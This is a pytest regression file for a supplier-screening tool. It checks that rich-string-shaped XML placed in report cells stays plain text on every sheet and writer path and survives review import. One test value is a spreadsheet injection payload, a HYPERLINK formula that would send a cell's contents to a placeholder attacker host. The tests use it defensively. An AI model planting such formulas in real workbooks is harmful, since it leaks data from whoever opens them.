"""Issue 19, finding 1: text shaped like rich-string XML (``<r>...</r>``) must stay text on every sheet and every
writer path. xlsxwriter's constant-memory mode copies such a string into the sheet as raw XML: a supplier name
became a live HYPERLINK formula, and ``<r><t>x</r>`` made sheets no reader could open (then `review import` read
0 decisions and exited 0)."""

from __future__ import annotations

import zipfile

import openpyxl
import polars as pl
import pytest
from click.testing import CliRunner

from screener.cli import cli
from screener.io import InputInfo
from screener.report import excel, write_report
from screener.review import apply_decisions, load_decisions
from tests.report.conftest import (
    hit_frame,
    list_set,
    make_screening,
    match_frame,
    ranking_frame,
    rejected_frame,
    supplier_frame,
)

LIVE_FORMULA = '<r><t>=HYPERLINK("http://evil.example/?leak="&amp;L2,"click")</t></r>'
BROKEN_XML = "<r><t>x</r>"
BOLD_RUN = "<r><rPr><b/></rPr><t>bold</t></r>"
HOSTILE = (LIVE_FORMULA, BROKEN_XML, BOLD_RUN)


def hostile_screening():
    """The sample screening with rich-string-shaped text in every kind of text cell the workbook shows."""
    suppliers = supplier_frame().with_columns(
        pl.Series("name", ["Xinjiang Zhongtai Chemical Co Ltd", LIVE_FORMULA, BROKEN_XML, BOLD_RUN]),
        pl.Series("Buyer notes", [BOLD_RUN, LIVE_FORMULA, BROKEN_XML, "plain"]),
    )
    matches = match_frame().with_columns(
        pl.Series("matched_name", [LIVE_FORMULA, BROKEN_XML, BOLD_RUN]),
        pl.Series("explanation", [BROKEN_XML, LIVE_FORMULA, BOLD_RUN]),
    )
    hits = hit_frame().with_columns(pl.Series("evidence", [LIVE_FORMULA, BROKEN_XML, BOLD_RUN, "plain"]))
    ranking = ranking_frame().with_columns(pl.Series("reasons", [LIVE_FORMULA, BROKEN_XML, BOLD_RUN, "x"]))
    rejected = rejected_frame().with_columns(pl.Series("reason", [BROKEN_XML]))
    screening = make_screening(
        suppliers=suppliers, matches=matches, hits=hits, ranking=ranking, rejected=rejected
    )
    # the Method and Summary sheets show input and list details
    screening.inputs = [InputInfo(LIVE_FORMULA, "c" * 64, BROKEN_XML, 4, {"name": BOLD_RUN}, 5, 1)]
    lists = list_set()
    lists.lists[0].name = BROKEN_XML
    screening.lists = lists
    return screening


def all_text_cells(path) -> dict[str, list]:
    book = openpyxl.load_workbook(path)  # raises on a sheet that is not well-formed XML
    return {
        sheet.title: [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        for sheet in book.worksheets
    }


def assert_every_hostile_text_is_plain_text(path) -> None:
    cells = all_text_cells(path)
    for title, sheet_cells in cells.items():
        assert all(cell.data_type != "f" for cell in sheet_cells), title
    values = {title: {cell.value for cell in sheet_cells} for title, sheet_cells in cells.items()}
    for title in ("Suppliers", "Matches", "Indicators"):
        assert set(HOSTILE) <= values[title], title
    assert BROKEN_XML in values["Rejected"]
    assert {LIVE_FORMULA, BROKEN_XML} <= values["Method"]
    assert BROKEN_XML in values["Summary"] | values["Method"]
    # not one rich-text run anywhere: every text is a plain <t> element
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<is><r>" not in package.read(name).decode(), name


def test_rich_string_shaped_text_stays_text_on_every_sheet(tmp_path):
    (path,) = write_report(hostile_screening(), tmp_path / "report.xlsx")
    assert_every_hostile_text_is_plain_text(path)


def test_rich_string_shaped_text_stays_text_on_the_fast_path(tmp_path, monkeypatch):
    monkeypatch.setattr(
        excel, "FAST_SHEET_MIN_ROWS", 2
    )  # every data sheet spliced by screener.report.sheet_xml
    (path,) = write_report(hostile_screening(), tmp_path / "report.xlsx")
    assert_every_hostile_text_is_plain_text(path)


def test_the_override_is_what_xlsxwriter_calls(tmp_path):
    """PlainTextWorksheet overrides a private xlsxwriter method: a new xlsxwriter that renames it fails here."""
    path = tmp_path / "one.xlsx"
    book = excel.new_workbook(path)
    sheet = book.add_worksheet("S")
    assert isinstance(sheet, excel.PlainTextWorksheet)
    sheet.write_string(0, 0, LIVE_FORMULA)
    sheet.write_string(1, 0, " <r>spaced</r>")
    book.close()
    cells = openpyxl.load_workbook(path)["S"]
    assert (cells["A1"].value, cells["A1"].data_type) == (LIVE_FORMULA, "s")
    assert cells["A2"].value == " <r>spaced</r>"


@pytest.mark.parametrize("note", HOSTILE)
def test_review_import_reads_decisions_and_notes_from_a_hostile_workbook(tmp_path, note):
    (path,) = write_report(hostile_screening(), tmp_path / "report.xlsx")
    book = openpyxl.load_workbook(path)
    sheet = book["Matches"]
    header = [cell.value for cell in sheet[1]]
    sheet.cell(2, header.index("Decision") + 1, "false positive")
    sheet.cell(2, header.index("Notes") + 1, note)
    book.save(path)

    result = CliRunner().invoke(cli, ["review", "import", str(path), "--reviewer", "A. Officer"])
    assert result.exit_code == 0, result.output
    assert "1 new or changed" in result.output
    stored = load_decisions()
    assert stored.get_column("note").to_list() == [note]

    # the stored note is carried into the next report: still text there, and read back again
    screening = hostile_screening()
    screening.matches = apply_decisions(screening.matches, screening.suppliers, stored)
    assert note in screening.matches.get_column("decision_note").to_list()
    (again,) = write_report(screening, tmp_path / "again.xlsx")
    assert_every_hostile_text_is_plain_text(again)
    notes = {cell.value for cell in all_text_cells(again)["Matches"]}
    assert note in notes
